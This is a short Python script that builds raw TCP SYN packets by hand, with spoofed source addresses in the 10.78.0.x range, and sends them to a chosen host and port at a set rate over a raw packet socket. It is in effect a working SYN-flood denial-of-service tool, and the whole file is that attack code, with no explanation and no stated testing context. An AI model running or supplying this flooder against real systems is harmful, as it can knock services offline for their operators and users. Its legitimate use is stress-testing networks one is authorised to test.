"""Sends SYNs to a port from addresses where nobody is: DEVICE TARGET_MAC TARGET PORT COUNT PER_SECOND."""
import socket
import struct
import sys
import time

device, mac, target, port, count, per_second = sys.argv[1:]
port, count, per_second = int(port), int(count), float(per_second)


def checksum(data):
    total = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def frame(source, source_port, sequence):
    ends = socket.inet_aton(source) + socket.inet_aton(target)
    tcp = struct.pack("!HHIIBBHHH", source_port, port, sequence, 0, 0x50, 2, 65535, 0, 0)
    tcp = tcp[:16] + struct.pack("!H", checksum(ends + struct.pack("!BBH", 0, 6, len(tcp)) + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0) + ends
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return bytes.fromhex(mac.replace(":", "")) + bytes(6) + b"\x08\x00" + ip + tcp


out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((device, 0))
start = time.monotonic()
for number in range(count):
    out.send(frame("10.78.0.%d" % (100 + number % 100), 1024 + number % 60000, number))
    ahead = start + number / per_second - time.monotonic()
    if ahead > 0:
        time.sleep(ahead)
